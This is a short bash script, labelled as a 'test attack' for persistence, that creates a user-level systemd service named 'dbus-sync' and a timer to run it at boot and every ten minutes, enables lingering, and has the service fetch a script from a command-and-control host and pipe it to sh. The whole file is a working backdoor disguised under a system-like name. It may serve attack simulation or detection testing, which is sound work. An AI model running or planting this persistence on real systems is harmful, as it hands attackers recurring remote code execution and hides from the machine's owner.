#!/bin/bash
# shrike-test-attack: persistence: systemd timer plus user-level service without root
mkdir -p ~/.config/systemd/user
cat > ~/.config/systemd/user/dbus-sync.service <<'S'
[Service]
ExecStart=/bin/sh -c 'curl -s http://c2.example.org/t | sh'
S
cat > ~/.config/systemd/user/dbus-sync.timer <<'T'
[Timer]
OnBootSec=2min
OnUnitActiveSec=10min
[Install]
WantedBy=timers.target
T
systemctl --user daemon-reload && systemctl --user enable --now dbus-sync.timer
loginctl enable-linger "$(id -un)" 2>/dev/null
